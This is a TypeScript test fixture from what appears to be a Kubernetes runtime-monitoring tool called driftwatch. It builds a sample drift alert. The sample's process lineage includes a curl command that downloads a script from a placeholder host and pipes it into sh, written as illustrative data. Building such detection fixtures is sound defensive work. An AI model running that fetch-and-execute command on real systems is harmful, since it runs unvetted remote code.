/** A realistic sample notification: what `driftwatch alerts test` sends and the sink tests use. */
import { randomUUID } from 'node:crypto';
import type { AlertNotification } from '../sinks/types.js';
import { deviationUrl } from '../links.js';

export function sampleNotification(opts: { cluster: string; baseUrl: string; nowMs: number }): AlertNotification {
  const workload = { cluster: opts.cluster, namespace: 'driftwatch-test', kind: 'Deployment' as const, name: 'sample-app', container: 'app' };
  const url = deviationUrl(opts.baseUrl, 0);
  return {
    idempotencyKey: `test-${randomUUID()}`,
    alertKey: 'test:sample',
    kind: 'deviation',
    status: 'firing',
    reason: 'test',
    alertname: 'DriftwatchTest',
    severity: 'info',
    cluster: opts.cluster,
    summary: 'driftwatch test alert: new process /usr/bin/curl in driftwatch-test/sample-app (a sample, nothing happened)',
    startsAtMs: opts.nowMs,
    endsAtMs: null,
    url,
    workload,
    deviations: [
      {
        id: 0,
        kind: 'process',
        severity: 'info',
        severityReason: 'test alert',
        status: 'open',
        itemKey: 'process:/usr/bin/curl',
        summary: 'new process /usr/bin/curl -s https://example.invalid/install.sh',
        item: { exe: '/usr/bin/curl', args: '-s https://example.invalid/install.sh' },
        lineage: ['/usr/bin/curl -s https://example.invalid/install.sh', '/bin/sh -c curl -s https://example.invalid/install.sh | sh', '/usr/local/bin/app'],
        peer: null,
        firstSeenMs: opts.nowMs,
        lastSeenMs: opts.nowMs,
        count: 1,
        pods: ['sample-app-7d4b9c-x2x9k'],
        nodes: ['node-1'],
        image: 'registry.example/sample-app:1.0',
        url,
      },
    ],
    truncated: 0,
    health: null,
    heldBack: 0,
    decidedAtMs: opts.nowMs,
    sequence: 1,
  };
}
